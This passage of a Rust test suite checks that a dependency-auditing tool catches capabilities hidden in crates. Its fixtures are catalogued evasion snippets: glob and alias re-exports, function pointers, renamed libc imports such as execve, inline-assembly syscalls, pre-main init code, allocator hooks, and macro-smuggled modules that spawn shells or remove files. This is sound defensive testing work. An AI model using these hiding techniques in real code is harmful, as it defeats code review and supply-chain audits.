//! Ways to hide what code does, each in a small crate of its own, with the layer that catches it; attacks like those on record; and
//! what is known not to be caught, with the honest answer.

mod harness;

use std::collections::BTreeSet;

use harness::{Run, Workspace};
use serde_json::Value;

fn workspace(app: &str, codec: &str, util: &str) -> Workspace {
    let workspace = Workspace::three_crates();
    workspace.write("app/src/lib.rs", app);
    workspace.write("codec/src/lib.rs", codec);
    workspace.write("util/src/lib.rs", util);
    workspace
}

fn run(workspace: &Workspace, arguments: &[&str]) -> Run {
    let cache = workspace.path().join("cache");
    harness::cofferdam_with(
        workspace.path(),
        arguments,
        &[("COFFERDAM_CACHE", cache.to_str().expect("UTF-8"))],
    )
}

fn audit(workspace: &Workspace) -> Value {
    let run = run(workspace, &["audit", "--format", "json"]);
    assert_eq!(run.code, Some(0), "{run}");
    serde_json::from_str(&run.stdout).expect("JSON")
}

/// What the edge `app -> codec` brings.
fn brought(workspace: &Workspace) -> BTreeSet<String> {
    let document = audit(workspace);
    let edges = document["edges"].as_array().expect("a list");
    let edge = edges.iter().find(|edge| edge["from"] == "app@0.1.0" && edge["to"] == "codec@0.1.0");
    let brings = edge.expect("the edge")["brings"].as_array().expect("a list");
    brings.iter().map(|one| one["capability"].as_str().expect("text").to_owned()).collect()
}

/// A way to hide, what the hidden code is, and what has to be said of it.
struct Evasion {
    name: &'static str,
    codec: &'static str,
    util: &'static str,
    caught_as: &'static str,
}

/// All of them are caught by the source layer. `util` stands in for the crate that is misused.
const EVASIONS: &[Evasion] = &[
    Evasion {
        name: "glob import",
        codec: "use std::net::*; pub fn go() { let _ = TcpStream::connect(\"a:1\"); }",
        util: "",
        caught_as: "network.connect",
    },
    Evasion {
        name: "glob of a glob",
        codec: "mod a { pub use std::net::*; } use a::*; pub fn go() { let _ = TcpStream::connect(\"a:1\"); }",
        util: "",
        caught_as: "network.connect",
    },
    Evasion {
        name: "function pointer",
        codec: "pub fn go() { let f: fn(&str) -> _ = std::fs::read_to_string::<&str>; let _ = f(\"x\"); }",
        util: "",
        caught_as: "filesystem.read",
    },
    Evasion {
        name: "function pointer in a static",
        codec: "static TABLE: &[fn()] = &[hidden]; fn hidden() { let _ = std::process::Command::new(\"sh\").spawn(); } pub fn go() { TABLE[0]() }",
        util: "",
        caught_as: "process.spawn",
    },
    Evasion {
        name: "trait object",
        codec: "trait Run { fn run(&self); } struct S; impl Run for S { fn run(&self) { let _ = std::fs::write(\"x\", b\"\"); } } pub fn go() { let s: Box<dyn Run> = Box::new(S); s.run() }",
        util: "",
        caught_as: "filesystem.write",
    },
    Evasion {
        name: "what std calls unasked",
        codec: "pub struct S; impl Drop for S { fn drop(&mut self) { let _ = std::fs::remove_file(\"x\"); } } pub fn go() { let _ = S; }",
        util: "",
        caught_as: "filesystem.write",
    },
    Evasion {
        name: "macro that ends the path",
        codec: "macro_rules! call { ($f:ident) => { std::fs::$f(\"x\") } } pub fn go() { let _ = call!(read); }",
        util: "",
        caught_as: "filesystem.read",
    },
    Evasion {
        name: "macro of another crate",
        codec: "pub fn go() { util::quietly!(); }",
        util: "#[macro_export] macro_rules! quietly { () => { $crate::hidden() } } pub fn hidden() { std::thread::spawn(|| {}); }",
        caught_as: "thread",
    },
    Evasion {
        name: "inline assembly",
        codec: "pub fn go() { unsafe { std::arch::asm!(\"syscall\", in(\"rax\") 41) } }",
        util: "",
        caught_as: "raw-syscall",
    },
    Evasion {
        name: "re-export under another name",
        codec: "pub fn go() { let _ = util::harmless(\"x\"); }",
        util: "pub use std::fs::remove_dir_all as harmless;",
        caught_as: "filesystem.write",
    },
    Evasion {
        name: "type alias of another crate",
        codec: "pub fn go() { let _ = util::Pipe::connect(\"a:1\"); }",
        util: "pub type Pipe = std::net::TcpStream;",
        caught_as: "network.connect",
    },
    Evasion {
        name: "libc",
        codec: "pub fn go() { unsafe { util::connect(0); } }",
        util: "unsafe extern \"C\" { pub fn connect(fd: i32) -> i32; }",
        caught_as: "network.connect",
    },
    Evasion {
        name: "libc under another name",
        codec: "pub fn go() { unsafe { util::fine(0); } }",
        util: "unsafe extern \"C\" { #[link_name = \"execve\"] pub fn fine(fd: i32) -> i32; }",
        caught_as: "process.spawn",
    },
    Evasion {
        name: "foreign functions that a macro declares",
        codec: "macro_rules! prefixed { ($($t:tt)*) => { unsafe extern \"C\" { $($t)* } } } prefixed! { fn execv(); } pub fn go() { unsafe { execv() } }",
        util: "",
        caught_as: "process.spawn",
    },
    Evasion {
        name: "a safe wrapper like nix",
        codec: "pub fn go() { util::sys::signal::raise() }",
        util: "mod libc { unsafe extern \"C\" { pub fn kill(a: i32, b: i32) -> i32; } } macro_rules! call { ($f:ident($($a:expr),*)) => { unsafe { libc::$f($($a),*) } } } pub mod sys { pub mod signal { pub fn raise() { let _ = call!(kill(0, 9)); use crate::libc; } } }",
        caught_as: "process.signal",
    },
    Evasion {
        name: "raw system calls like rustix",
        codec: "pub fn go() { util::fs::open() }",
        util: "mod backend { pub mod arch { pub unsafe fn syscall1(n: usize) { unsafe { core::arch::asm!(\"syscall\", inlateout(\"rax\") n => _) } } } } pub mod fs { pub fn open() { unsafe { crate::backend::arch::syscall1(2) } } }",
        caught_as: "raw-syscall",
    },
    Evasion {
        name: "a symbol that stands in for another",
        codec: "pub fn go() {} #[unsafe(no_mangle)] pub extern \"C\" fn malloc(_: usize) -> *mut u8 { core::ptr::null_mut() }",
        util: "",
        caught_as: "init",
    },
    Evasion {
        name: "code that runs before main",
        codec: "pub fn go() {} #[used] #[unsafe(link_section = \".init_array\")] static START: fn() = || {};",
        util: "",
        caught_as: "init",
    },
    Evasion {
        name: "a handle from a number",
        codec: "pub fn go() { use std::os::fd::FromRawFd; let _ = unsafe { std::net::TcpStream::from_raw_fd(3) }; }",
        util: "",
        caught_as: "handle-forge",
    },
    Evasion {
        name: "a secret of the builder",
        codec: "pub fn go() -> &'static str { env!(\"HOME\") }",
        util: "",
        caught_as: "build.embed",
    },
];

#[test]
fn each_evasion_is_caught_by_the_source_layer() {
    for evasion in EVASIONS {
        let workspace = workspace("pub fn f() { codec::go(); }", evasion.codec, evasion.util);
        let found = brought(&workspace);
        assert!(
            found.contains(evasion.caught_as),
            "{}: {} is not in {found:?}",
            evasion.name,
            evasion.caught_as
        );
    }
}

/// Modules that pass each other's names on, all to all: a name in one of them is found, and soon.
#[test]
fn a_maze_of_globs_hides_nothing() {
    use std::fmt::Write as _;
    const MODULES: usize = 24;
    let mut util = String::from("pub use m0::*;\n");
    for module in 0..MODULES {
        let _ = write!(util, "pub mod m{module} {{ ");
        for other in (0..MODULES).filter(|other| *other != module) {
            let _ = write!(util, "pub use crate::m{other}::*; ");
        }
        util.push_str(if module + 1 == MODULES { "pub use std::fs::read as exit; }\n" } else { "}\n" });
    }
    let workspace =
        workspace("pub fn f() { codec::go(); }", "pub fn go() { let _ = util::exit(\"x\"); }", &util);
    assert_eq!(brought(&workspace), BTreeSet::from(["filesystem.read".to_owned()]));
}

/// Nobody here knows all that a module of std holds, so that a glob of one seems to answer to every name. In a block it is nearer than what
/// is meant.
#[test]
fn a_glob_of_std_hides_nothing_behind_it() {
    const FORMS: &[&str] = &[
        "use std::fs; pub fn go() { GLOB fs::read(\"a\").ok(); }",
        "use std::fs::read; pub fn go() { let c = || { GLOB read(\"a\").ok() }; c(); }",
        "fn own() { std::fs::read(\"a\").ok(); } pub fn go() { { GLOB own(); } }",
        "mod m { pub fn own() { std::fs::read(\"a\").ok(); } } pub fn go() { GLOB m::own(); }",
        "mod m { pub fn own() { std::fs::read(\"a\").ok(); } } use m::*; pub fn go() { GLOB own(); }",
        "mod m { pub fn own() { std::fs::read(\"a\").ok(); } } pub fn go() { use m::*; { GLOB own(); } }",
        "pub fn go() { fn own() { std::fs::read(\"a\").ok(); } { GLOB own(); } }",
        "struct S; impl S { fn own() { std::fs::read(\"a\").ok(); } fn on() { GLOB Self::own(); } } pub fn go() { S::on(); }",
        "struct S; impl S { fn own(&self) { std::fs::read(\"a\").ok(); } } pub fn go() { GLOB S.own(); }",
        "trait T { fn own(&self); } impl T for u8 { fn own(&self) { std::fs::read(\"a\").ok(); } } pub fn go() { GLOB T::own(&1); }",
        "macro_rules! own { () => { std::fs::read(\"a\").ok() } } pub fn go() { GLOB own!(); }",
        "pub fn go() { GLOB util::own(); }",
        "#[macro_use] extern crate util; GLOB pub fn go() { own!(); }",
        "#[macro_use] extern crate util; pub fn go() { GLOB own!(); }",
    ];
    const UTIL: &str = "pub mod all { pub use std::io::prelude::*; } pub fn own() { std::fs::read(\"a\").ok(); } \
        #[macro_export] macro_rules! own { () => { std::fs::read(\"a\").ok() } }";
    for glob in ["use std::io::prelude::*;", "use core::fmt::*;", "use util::all::*;"] {
        for form in FORMS {
            let codec = format!("#![allow(unused)] {}", form.replace("GLOB", glob));
            let found = brought(&workspace("pub fn f() { codec::go(); }", &codec, UTIL));
            assert!(found.contains("filesystem.read"), "{codec}: {found:?}");
        }
        let old = format!(
            "mod a {{ {glob} use helper::own; pub fn go() {{ own() }} }} mod helper {{ pub fn own() {{ ::std::fs::read(\"a\").ok(); }} }} pub use a::go;"
        );
        let workspace = workspace("pub fn f() { codec::go(); }", &old, UTIL);
        let manifest = workspace.read("codec/Cargo.toml").replace("edition = \"2024\"", "edition = \"2015\"");
        workspace.write("codec/Cargo.toml", &manifest);
        assert!(brought(&workspace).contains("filesystem.read"), "{old}");
    }
}

/// What nobody names and the linker, the loader or std's runtime calls is used over every edge, and so is all that it uses.
#[test]
fn code_that_runs_by_linking_is_followed() {
    const CONNECTS: &str = "std::net::TcpStream::connect(\"127.0.0.1:9\").ok();";
    for codec in [
        "extern \"C\" fn run() { CONNECTS } #[used] #[unsafe(link_section = \".init_array\")] static INIT: extern \"C\" fn() = run;",
        "extern \"C\" fn run() { CONNECTS } #[used] #[unsafe(link_section = \".fini_array\")] static DONE: extern \"C\" fn() = run;",
        "mod deep { #[unsafe(no_mangle)] pub extern \"C\" fn getpid() -> i32 { CONNECTS 1 } }",
        "struct S; impl S { #[unsafe(export_name = \"getpid\")] extern \"C\" fn own() -> i32 { CONNECTS 1 } }",
        "#[cfg_attr(all(), unsafe(no_mangle))] extern \"C\" fn getpid() -> i32 { run() } fn run() -> i32 { CONNECTS 1 }",
        "#[util::ctor] fn run() { CONNECTS }",
        "use std::alloc::{GlobalAlloc, Layout, System}; struct A; #[global_allocator] static ONE: A = A; unsafe impl GlobalAlloc for A { \
         unsafe fn alloc(&self, l: Layout) -> *mut u8 { CONNECTS unsafe { System.alloc(l) } } \
         unsafe fn dealloc(&self, p: *mut u8, l: Layout) { unsafe { System.dealloc(p, l) } } }",
    ] {
        let codec = format!("{} pub fn go() {{}}", codec.replace("CONNECTS", CONNECTS));
        let found = brought(&workspace("pub fn f() { codec::go(); }", &codec, ""));
        assert!(found.contains("network.connect"), "{codec}: {found:?}");
    }
    let plain = "#[unsafe(no_mangle)] pub extern \"C\" fn run() {} fn other() { std::fs::read(\"a\").ok(); } pub fn go() {}";
    let found = brought(&workspace("pub fn f() { codec::go(); }", plain, ""));
    assert_eq!(found, BTreeSet::from(["init".to_owned()]), "and no more than that");
}

#[test]
fn included_and_generated_code_is_read_or_said_not_to_be() {
    let workspace = workspace(
        "pub fn f() { codec::go(); }",
        "mod hidden { include!(\"data.txt\"); } pub fn go() { hidden::run() }",
        "include!(concat!(env!(\"OUT_DIR\"), \"/made.rs\"));",
    );
    workspace.write("codec/src/data.txt", "pub fn run() { let _ = std::process::Command::new(\"sh\"); }");
    workspace.write("util/build.rs", "fn main() { println!(\"cargo::rerun-if-changed=build.rs\"); }");
    assert!(brought(&workspace).contains("process.spawn"), "the source layer reads what is included");
    let document = audit(&workspace);
    let unknown = &document["unknown"][0];
    assert_eq!(unknown["krate"], "util@0.1.0", "{document}");
    assert_eq!(unknown["file"], "OUT_DIR/made.rs");
    assert_eq!(unknown["generated"], true, "what a build script writes is not read, and said so");
    assert!(brought(&workspace).contains("build.script"), "and the script itself is");
}

/// Lines that the compiler takes and the parser does not: the file around them is read token by token.
const REFUSED: &[&str] = &[
    "#[cfg(any())] default fn f() {}",
    "#[cfg(any())] type A: B where C: D = E where F: G;",
    "#[cfg(any())] fn f() { let x: dyn 'static; }",
    "#[cfg(any())] type F = for<'a> unsafe fn(#[a] &'a u8, mut x: u8);",
];

/// Code that removes a file, for a module or an included file.
const REMOVES: &str = "pub fn q(a: &str) { std::fs::remove_file(a).ok(); }";

/// The files that could not be read, and why.
fn unknown(workspace: &Workspace) -> Vec<String> {
    let document = audit(workspace);
    let unknown = document["unknown"].as_array().expect("a list").iter();
    unknown
        .map(|one| {
            let text = |key: &str| one[key].as_str().expect("text").to_owned();
            format!("{} {}", text("file"), text("why"))
        })
        .collect()
}

#[test]
fn modules_of_a_file_that_the_parser_refuses_are_read() {
    for refused in REFUSED {
        let codec = format!("mod z;\n{refused}\npub fn pure(x: u32) -> u32 {{ z::q(\"a\"); x + 1 }}");
        let hidden = workspace("pub fn f() { codec::pure(1); }", &codec, "");
        hidden.write("codec/src/z.rs", REMOVES);
        assert_eq!(brought(&hidden), BTreeSet::from(["filesystem.write".to_owned()]), "{refused}");
        assert_eq!(unknown(&hidden), [""; 0], "{refused}");
        let script = workspace("pub fn f() { codec::pure(); }", "pub fn pure() {}", "");
        script.write("codec/build.rs", &format!("mod z;\n{refused}\nfn main() {{ z::q(\"a\"); }}"));
        script.write("codec/z.rs", REMOVES);
        assert!(brought(&script).contains("build.filesystem.write"), "{refused}");
    }
}

/// Where the file of a module is, and how its names come out, in tokens as for the parser.
#[test]
fn modules_among_tokens_are_where_the_compiler_looks() {
    let files: &[(&str, &str, &str)] = &[
        ("a folder", "z/mod.rs", "mod z; pub fn go() { z::q(\"a\") }"),
        ("a path", "x.in", "#[path = \"x.in\"] pub(crate) mod z; pub fn go() { z::q(\"a\") }"),
        ("in a module", "a/b.rs", "mod a { mod b; pub fn go() { b::q(\"a\") } } pub use a::go;"),
        ("in modules", "a/b/c.rs", "mod a { pub mod b { pub mod c; } } pub fn go() { a::b::c::q(\"a\") }"),
        (
            "under another folder",
            "x/b.rs",
            "#[path = \"x\"] mod a { pub mod b; } pub fn go() { a::b::q(\"a\") }",
        ),
        (
            "a path in a module",
            "a/x.in",
            "mod a { #[path = \"x.in\"] pub mod b; } pub fn go() { a::b::q(\"a\") }",
        ),
        ("seen from a module", "z.rs", "mod z; mod a { pub fn go() { super::z::q(\"a\") } } pub use a::go;"),
        ("passed on", "z.rs", "mod z; pub use z::q as go;"),
        (
            "under a name that a block has too",
            "z.rs",
            "mod z; fn g() { use std::fmt as z; } pub fn go() { z::q(\"a\") }",
        ),
        ("behind a condition that holds", "z.rs", "#[cfg(not(any()))] mod z; pub fn go() { z::q(\"a\") }"),
        ("behind another's condition", "z.rs", "#[cfg(any())] use a::b; mod z; pub fn go() { z::q(\"a\") }"),
        (
            "behind a parameter's condition",
            "x.in",
            "fn g<#[cfg(any())] 'a>() { #[path = \"x.in\"] mod z; z::q(\"a\") } pub fn go() { g() }",
        ),
        ("included", "x.in", "include!(\"x.in\"); pub fn go() { q(\"a\") }"),
        (
            "included in a module",
            "x.in",
            "mod a { include!(\"x.in\"); pub fn go() { q(\"a\") } } pub use a::go;",
        ),
        (
            "handed to a macro",
            "z.rs",
            "macro_rules! m { ($($t:tt)*) => { $($t)* } } m! { mod z; } pub fn go() { z::q(\"a\") }",
        ),
        (
            "handed to a macro with more",
            "x.in",
            "macro_rules! m { (yes { $($t:tt)* }) => { $($t)* } } m! { yes { #[path = \"x.in\"] mod z; use z::q; pub fn go() { q(\"a\") } } }",
        ),
        (
            "written by a macro",
            "a/z.rs",
            "macro_rules! m { () => { pub mod z; } } mod a { m!(); } pub fn go() { a::z::q(\"a\") }",
        ),
    ];
    for (name, file, codec) in files {
        // The parser's way says the same.
        for refused in [REFUSED[0], ""] {
            let codec = format!("{codec}\n{refused}");
            let hidden = workspace("pub fn f() { codec::go(\"x\"); }", &codec, "");
            hidden.write(&format!("codec/src/{file}"), REMOVES);
            let found = brought(&hidden);
            assert_eq!(found, BTreeSet::from(["filesystem.write".to_owned()]), "{name} {refused}");
            assert_eq!(unknown(&hidden), [""; 0], "{name} {refused}");
        }
    }
}

#[test]
fn a_module_among_tokens_whose_file_is_not_there_is_said_unless_it_is_not_compiled() {
    let read = |codec: &str| {
        let codec = format!("{codec}\npub fn go() {{}}\n{}", REFUSED[0]);
        unknown(&workspace("pub fn f() { codec::go(); }", &codec, ""))
    };
    for missing in ["mod z;", "mod a { mod z; }", "#[path = \"z.rs\"] mod y;", "fn f() { struct S; mod z; }"]
    {
        let unknown = read(missing);
        assert!(
            unknown.len() == 1 && unknown[0].contains("src/") && unknown[0].contains("z.rs "),
            "{missing}: {unknown:?}"
        );
    }
    assert_eq!(read("include!(concat!(env!(\"HOME\"), \"/x.rs\"));").len(), 1);
    for nothing in [
        "#[cfg(test)] mod z;",
        "#[cfg(any())] pub(crate) mod z;",
        "#[cfg(any())] mod a { mod z; }",
        "#[cfg(any())] fn f() { include!(\"z.rs\"); mod z; }",
        "#[test] fn f() { mod z; }",
        "mod a { pub fn g() {} }",
        "macro_rules! m { (mod $t:ident;) => {}; (include!($t:tt)) => {}; (mod z;) => {} }",
    ] {
        assert_eq!(read(nothing), [""; 0], "{nothing}");
    }
}

/// A macro that declares a module for each name that it is handed: which files those are, only its uses say. So it is with what reads a file
/// under another name.
#[test]
fn modules_that_a_macro_declares_under_names_handed_in_are_not_analysed() {
    let macros: &[(&str, &str)] = &[
        ("macro_rules! md { ($t:ident) => { mod $t; } } md! { z }", "z.rs"),
        ("macro_rules! md { ($($t:ident)*) => { $(mod $t;)* } } md! { z }", "z.rs"),
        ("macro_rules! md { ($($t:ident $s:tt)*) => { $(mod $t $s)* } } md! { z ; }", "z.rs"),
        ("macro_rules! m { ($($f:literal)*) => { $(include!($f);)* } } m! { \"x.in\" }", "x.in"),
        (
            "macro_rules! m { ($($f:literal),*) => { [$(include!($f)),*] } } pub fn g() { m!(\"x.in\"); }",
            "x.in",
        ),
        (
            "macro_rules! m { ($($p:literal $n:ident)*) => { $(#[path = $p] mod $n;)* } } m! { \"x.in\" z }",
            "x.in",
        ),
        ("macro_rules! m { ($v:vis $i:ident) => { #[path = \"x.in\"] $v mod $i; } } m! { pub y }", "x.in"),
        ("macro_rules! m { ($($p:literal)*) => { $(#[path = $p] mod n;)* } } m! { \"x.in\" }", "x.in"),
        (
            "macro_rules! m { ($(#[$a:meta])* $l:tt) => { $(#[$a])* mod n; } } m! { #[path = \"x.in\"] 1 }",
            "x.in",
        ),
        ("macro_rules! m { ($($t:ident)*) => { $(pub mod $t { mod z; })* } } m! { a }", "a/z.rs"),
        ("macro_rules! m { ($($t:ident)*) => { $(n! { mod $t; })* } } m! { z }", "z.rs"),
        ("use std::include as inc; inc!(\"x.in\");", "x.in"),
        ("mod a { pub(crate) use core::{include as inc}; } a::inc!(\"x.in\");", "x.in"),
    ];
    for (code, file) in macros {
        for refused in ["", REFUSED[0]] {
            let codec = format!("{code}\npub fn go() {{}}\n{refused}");
            let hidden = workspace("pub fn f() { codec::go(); }", &codec, "");
            hidden.append("Cargo.toml", "\n[workspace.metadata.capabilities.holds]\nclock = true\n");
            hidden.write(&format!("codec/src/{file}"), REMOVES);
            // Files by the names that the rules use must not pass for those that are meant.
            for decoy in ["t.rs", "n.rs", "i.rs", "t/z.rs"] {
                hidden.write(&format!("codec/src/{decoy}"), "");
            }
            assert!(!unknown(&hidden).is_empty(), "{code} {refused}");
            let check = run(&hidden, &["check"]);
            assert_eq!(check.code, Some(4), "{code} {refused}: {check}");
            assert!(check.stderr.contains("error[not-analysed]"), "{code} {refused}: {check}");
        }
    }
}

/// The file that a macro asks for lies beside its use; that another macro of its name is used says nothing of it.
#[test]
fn a_macro_is_not_hidden_by_another_of_its_name() {
    let codec = "macro_rules! m { () => { include!(\"x.in\") } } pub mod d; \
        mod e { macro_rules! m { () => { pub fn h() {} } } m!(); }\npub fn go() { d::g() }";
    let hidden = workspace("pub fn f() { codec::go(); }", codec, "");
    hidden.write("codec/src/d/mod.rs", "pub fn g() { m!(); }");
    hidden.write("codec/src/d/x.in", "std::fs::remove_file(\"a\").ok()");
    assert!(unknown(&hidden).iter().any(|one| one.contains("x.in")), "{:?}", unknown(&hidden));
}

/// What is behind a condition that never holds is read where the macro that is handed it may leave the condition out.
#[test]
fn a_condition_that_a_macro_may_leave_out_hides_nothing() {
    const STRIPS: &str = "macro_rules! m { ($(#[$a:meta])* pub $($t:tt)*) => { pub $($t)* } }";
    let inputs = [
        "#[cfg(any())] pub fn go() { std::fs::remove_file(\"a\").ok(); }",
        "#[cfg(test)] pub fn go() { std::fs::remove_file(\"a\").ok(); }",
        "#[test] pub fn go() { std::fs::remove_file(\"a\").ok(); }",
        "#[cfg(any())] pub mod z; pub use z::q as go;",
        "#[cfg(any())] pub mod y { pub use std::fs::remove_file as q; } pub use y::q as go;",
        // No Rust: read token by token.
        "#[cfg(any())] pub fn go() { std::fs::remove_file(\"a\").ok(); } what is this",
    ];
    let macros = [
        (STRIPS.to_owned(), "m"),
        ("macro_rules! m { ($a:tt $b:tt $($t:tt)*) => { $($t)* } }".to_owned(), "m"),
        (format!("{STRIPS} macro_rules! n {{ ($($t:tt)*) => {{ m! {{ $($t)* }} }} }}"), "n"),
        (format!("{STRIPS} use m as n;"), "n"),
        // Of another crate.
        ("use util::m;".to_owned(), "m"),
        ("use util::m as vec;".to_owned(), "vec"),
        ("use util::vec;".to_owned(), "vec"),
        (String::new(), "util::vec"),
    ];
    for input in inputs {
        for (rules, name) in &macros {
            let codec = format!("{rules} {name}! {{ {input} }}");
            let hidden = workspace("pub fn f() { codec::go(); }", &codec, "");
            hidden.write("codec/src/z.rs", REMOVES);
            assert!(brought(&hidden).contains("filesystem.write"), "{codec}");
            assert_eq!(unknown(&hidden), [""; 0], "{codec}");
        }
        // Rules behind their use.
        let codec = format!("crate::m! {{ {input} }} {STRIPS} use m;");
        let before = workspace("pub fn f() { codec::go(); }", &codec, "");
        before.write("codec/src/z.rs", REMOVES);
        assert!(brought(&before).contains("filesystem.write"), "{codec}");
    }
}

/// A macro that passes all on passes conditions on, and a file that is not there was not meant.
#[test]
fn a_condition_that_a_macro_passes_on_is_believed() {
    let input = "#[cfg(any())] mod z; #[cfg(any())] pub fn h() { std::fs::remove_file(\"a\").ok(); } \
        #[cfg(test)] mod tests { pub use std::fs::*; } pub fn go() { h() }";
    for rules in [
        "macro_rules! m { ($($t:tt)*) => { $($t)* } }",
        "macro_rules! m { ($($i:item)*) => { $(#[cfg(not(any()))] $i)* } }",
        "macro_rules! m { ($($i:item)*) => { m!(@ $($i)*); }; (@ $($i:item)*) => { $($i)* } }",
        "",
    ] {
        let codec = if rules.is_empty() {
            "cfg_if::cfg_if! { if #[cfg(any())] { mod z; } } pub fn go() {}".to_owned()
        } else {
            format!("{rules} m! {{ {input} }}")
        };
        let plain = workspace("pub fn f() { codec::go(); }", &codec, "");
        assert_eq!(brought(&plain), BTreeSet::new(), "{codec}");
        assert_eq!(unknown(&plain), [""; 0], "{codec}");
    }
    let missing =
        "macro_rules! m { ($(#[$a:meta])* mod $n:ident;) => { } } m! { #[cfg(any())] mod z; } pub fn go() {}";
    assert_eq!(unknown(&workspace("pub fn f() { codec::go(); }", missing, "")), [""; 0]);
}

/// What the rules of a macro name lies beside each use, whatever lies beside another use or beside the rules.
#[test]
fn the_files_that_a_macro_names_are_read_at_each_use() {
    const EXPRESSION: &str = "std::fs::remove_file(\"a\").ok()";
    type Written<'t> = (&'t str, &'t str);
    let cases: &[(&str, &[Written<'_>], Written<'_>)] = &[
        (
            "macro_rules! m { () => { pub mod z; } } mod a { m!(); } mod b { m!(); pub fn go() { z::q(\"a\") } } pub use b::go;",
            &[("a/z.rs", "")],
            ("b/z.rs", REMOVES),
        ),
        (
            "macro_rules! m { () => { include!(\"x.in\"); } } m!(); mod b; pub use b::go;",
            &[("x.in", ""), ("b/mod.rs", "m!(); pub fn go() { q(\"a\") }")],
            ("b/x.in", REMOVES),
        ),
        (
            "macro_rules! m { () => { include!(\"x.in\") } } mod b; pub fn go() { m!(); b::go() }",
            &[("x.in", "1"), ("b/mod.rs", "pub fn go() { m!(); }")],
            ("b/x.in", EXPRESSION),
        ),
        (
            "macro_rules! m { () => { include!(\"x.in\"); } } mod e { macro_rules! m { () => { } } m!(); } mod b; pub use b::go;",
            &[("x.in", ""), ("b/mod.rs", "m!(); pub fn go() { q(\"a\") }")],
            ("b/x.in", REMOVES),
        ),
    ];
    for (codec, beside, (file, text)) in cases {
        for refused in ["", REFUSED[0]] {
            let hidden = workspace("pub fn f() { codec::go(); }", &format!("{codec}\n{refused}"), "");
            for (name, text) in *beside {
                hidden.write(&format!("codec/src/{name}"), text);
            }
            hidden.write(&format!("codec/src/{file}"), text);
            let found = brought(&hidden);
            assert_eq!(found, BTreeSet::from(["filesystem.write".to_owned()]), "{codec} {refused}");
            assert_eq!(unknown(&hidden), [""; 0], "{codec} {refused}");
        }
    }
}

/// Uses of which it is not seen what they are, and files that lie elsewhere than what was read.
#[test]
fn a_use_of_a_macro_whose_files_are_not_read_is_said() {
    let cases = [
        // It takes something, and which rule is meant is not known.
        ("macro_rules! m { ($t:tt) => { pub mod z; } } mod b { m!(1); }", ""),
        ("macro_rules! m { ($t:tt) => { include!(\"x.in\"); } } mod b;", "m!(1);"),
        // By another name, before its rules, through another macro.
        ("macro_rules! m { () => { pub mod z; } } use m as n; mod b { crate::n!(); }", ""),
        ("mod b { crate::m!(); } macro_rules! m { ($($t:tt)?) => { pub mod z; } } use m;", ""),
        (
            "macro_rules! m { () => { pub mod z; } } macro_rules! n { ($t:tt) => { m!(); } } mod b { n!(1); }",
            "",
        ),
        // Its uses are in other crates.
        ("#[macro_export] macro_rules! m { () => { mod z; } }", ""),
    ];
    for (codec, inside) in cases {
        for refused in ["", REFUSED[0]] {
            let codec = format!("{codec}\npub fn go() {{}}\n{refused}");
            let hidden = workspace("pub fn f() { codec::go(); }", &codec, "");
            // What is beside the rules must not pass for what is meant.
            for (name, text) in [("z.rs", ""), ("x.in", ""), ("b/mod.rs", inside)] {
                hidden.write(&format!("codec/src/{name}"), text);
            }
            hidden.write("codec/src/b/z.rs", REMOVES);
            hidden.write("codec/src/b/x.in", REMOVES);
            let unknown = unknown(&hidden);
            assert!(
                unknown.iter().any(|one| one.contains("names files beside its uses")),
                "{codec}: {unknown:?}"
            );
        }
    }
}

/// A macro can put the word that makes a file of a name beside that name.
#[test]
fn the_parts_of_a_module_that_are_handed_in_apart_are_not_analysed() {
    let cases = [
        "macro_rules! m { ($k:tt, $n:ident) => { $k $n; } } m!(mod, z);",
        "macro_rules! m { ($n:ident $k:tt) => { $k $n; } } m!(z mod);",
        "macro_rules! m { ($k:tt) => { #[path = \"x.in\"] $k t; } } m!(mod);",
        "macro_rules! m { ($k:tt) => { #[path = \"x.in\"] $k t; } } macro_rules! n { ($($t:tt)*) => { m!($($t)*); } } n!(mod);",
        "macro_rules! m { ($n:ident) => { n!(mod | $n); } } macro_rules! n { ($k:tt | $n:ident) => { $k $n; } } m!(z);",
        "macro_rules! m { ($k:tt $n:tt) => { #[path = \"x.in\"] $k $n; } } m!(mod q);",
        "m!(mod | z); use util::m;",
        "macro_rules! m { ($i:ident $f:literal) => { $i!($f); } } m!(include \"x.in\");",
        "macro_rules! m { ($i:ident $b:tt $f:literal) => { $i $b ($f); } } m!(include ! \"x.in\");",
        "macro_rules! m { ($i:ident $f:literal) => { $i!($f); } } macro_rules! n { ($($t:tt)*) => { m! { $($t)* } } } n!(include \"x.in\");",
    ];
    for codec in cases {
        for refused in ["", REFUSED[0]] {
            let codec = format!("{codec}\npub fn go() {{}}\n{refused}");
            let hidden = workspace("pub fn f() { codec::go(); }", &codec, "");
            hidden.append("Cargo.toml", "\n[workspace.metadata.capabilities.holds]\nclock = true\n");
            hidden.write("codec/src/z.rs", REMOVES);
            hidden.write("codec/src/x.in", REMOVES);
            hidden.write("codec/src/t.rs", "");
            let check = run(&hidden, &["check"]);
            assert_eq!(check.code, Some(4), "{codec}: {check}");
            assert!(check.stderr.contains("hands a macro the parts of a module"), "{codec}: {check}");
        }
    }
}

/// A macro can write a module that it is handed into another one, where its file is another.
#[test]
fn a_module_that_a_macro_may_write_elsewhere_is_not_analysed() {
    let cases = [
        "macro_rules! m { ($($t:tt)*) => { pub mod inner { $($t)* } } } m! { pub mod z; } pub fn go() { inner::z::q(\"a\") }",
        "macro_rules! m { ($i:item) => { #[path = \"inner/z.rs\"] $i } } m! { pub mod z; } pub fn go() { z::q(\"a\") }",
        "macro_rules! m { ($(#[$a:meta])* pub mod z;) => { pub mod inner { pub mod z; } } } m! { #[cfg(any())] pub mod z; } pub fn go() { inner::z::q(\"a\") }",
        "macro_rules! n { ($($t:tt)*) => { pub mod inner { $($t)* } } } macro_rules! m { ($($t:tt)*) => { n! { $($t)* } } } m! { pub mod z; } pub fn go() { inner::z::q(\"a\") }",
    ];
    for codec in cases {
        for refused in ["", REFUSED[0]] {
            let codec = format!("{codec}\n{refused}");
            let hidden = workspace("pub fn f() { codec::go(); }", &codec, "");
            hidden.append("Cargo.toml", "\n[workspace.metadata.capabilities.holds]\nclock = true\n");
            hidden.write("codec/src/z.rs", "");
            hidden.write("codec/src/inner/z.rs", REMOVES);
            let check = run(&hidden, &["check"]);
            assert_eq!(check.code, Some(4), "{codec}: {check}");
            assert!(
                check.stderr.contains("hands a module to a macro that may write it elsewhere"),
                "{codec}: {check}"
            );
        }
    }
}

/// What honest macros do with the same words.
#[test]
fn words_that_make_no_file_are_nothing_to_report() {
    let cases = [
        "pub fn g() { let _ = util::Token![mod]; }",
